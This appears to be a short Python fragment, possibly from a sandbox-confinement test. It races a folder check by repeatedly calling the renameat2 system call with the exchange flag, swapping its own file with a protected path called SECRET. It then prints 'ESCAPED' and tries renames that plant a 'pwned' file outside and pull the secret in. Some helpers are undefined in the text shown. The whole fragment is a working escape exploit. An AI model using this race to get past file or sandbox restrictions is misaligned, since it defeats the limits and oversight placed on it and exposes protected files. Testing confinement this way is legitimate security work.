"""Exchange names between the scratch folder and the outside, to win against a check."""

open("mine", "w").write("x")
for _ in range(200):
    if syscall(316, AT_FDCWD, b"mine", AT_FDCWD, SECRET.encode(), 2) == 0:
        print("ESCAPED exchanged")
        break
attempt("rename out", posix.rename, "mine", f"{FOLDER}/pwned")
attempt("rename in", posix.rename, SECRET, "theirs")
